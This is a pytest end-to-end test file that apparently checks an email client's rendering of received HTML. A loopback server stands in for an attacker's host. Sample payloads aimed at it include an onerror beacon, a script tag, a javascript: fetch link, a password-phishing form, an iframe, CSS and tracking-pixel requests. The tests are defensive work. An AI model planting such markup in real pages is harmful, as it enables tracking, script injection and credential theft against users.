"""Received HTML in a real browser: no script runs and nothing loads from outside, unless asked."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest

from strongroom.inboxes.ingest import ingest_raw
from strongroom.inboxes.models import Message
from tests.conftest import PASSWORD, make_mail

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def tracker() -> Iterator[tuple[str, list[str]]]:
    """A stand-in for an attacker's server on loopback that records every request."""
    _Recorder.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Recorder.hits
    server.shutdown()


def _hostile_html(base: str) -> str:
    return (
        "<p>Dear customer</p>"
        f'<img src="{base}/pixel.gif?open=1" alt="tracking pixel">'
        f'<img src="x" onerror="new Image().src=\'{base}/onerror\'">'
        f"<script>new Image().src='{base}/script'; parent.document.title='pwned';</script>"
        f"<a href=\"javascript:fetch('{base}/js-link')\">click</a>"
        f'<form action="{base}/phish"><input name="password"><button>Log in</button></form>'
        f'<iframe src="{base}/frame"></iframe>'
        f'<div style="background-image:url({base}/css)">styled</div>'
    )


def test_script_handlers_and_remote_images_never_run_or_load(live_server, page, sign_in, inbox_a, agent, tracker):
    base, hits = tracker
    message = ingest_raw(inbox_a, make_mail(subject="Hostile HTML", html=_hostile_html(base)), source="import")
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    sign_in(agent.email, PASSWORD)
    page.goto(f"{live_server.url}/conversations/{message.conversation.public_id}/")
    frame = page.frame_locator("iframe.msg-frame")
    frame.get_by_text("Dear customer").wait_for()
    page.wait_for_timeout(1000)

    assert hits == []
    assert dialogs == []
    assert page.title() != "pwned"
    assert frame.locator("script, form, iframe, [onerror]").count() == 0
    assert page.get_by_text("Remote images are blocked").is_visible()


def test_remote_images_load_only_after_the_agent_asks(live_server, page, sign_in, inbox_a, agent, tracker):
    base, hits = tracker
    message = ingest_raw(inbox_a, make_mail(subject="Newsletter", html=_hostile_html(base)), source="import")

    sign_in(agent.email, PASSWORD)
    page.goto(f"{live_server.url}/conversations/{message.conversation.public_id}/")
    page.frame_locator("iframe.msg-frame").get_by_text("Dear customer").wait_for()
    page.wait_for_timeout(500)
    assert hits == []
    page.get_by_role("button", name="Show images").click()
    page.frame_locator("iframe.msg-frame").get_by_text("Dear customer").wait_for()
    page.wait_for_timeout(1000)

    assert hits == ["/pixel.gif?open=1"]


def test_a_sanitizer_bypass_is_still_stopped_by_the_sandbox_and_its_policy(
    live_server, page, sign_in, inbox_a, agent, tracker
):
    base, hits = tracker
    message = ingest_raw(inbox_a, make_mail(subject="Bypass", html="<p>placeholder</p>"), source="import")
    # As if the sanitizer had a hole: store the hostile markup as it came.
    Message.objects.filter(pk=message.pk).update(html_body="<p>Dear customer</p>" + _hostile_html(base))
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    sign_in(agent.email, PASSWORD)
    page.goto(f"{live_server.url}/conversations/{message.conversation.public_id}/")
    page.frame_locator("iframe.msg-frame").get_by_text("Dear customer").first.wait_for()
    page.wait_for_timeout(1000)

    assert hits == []
    assert dialogs == []
    assert page.title() != "pwned"
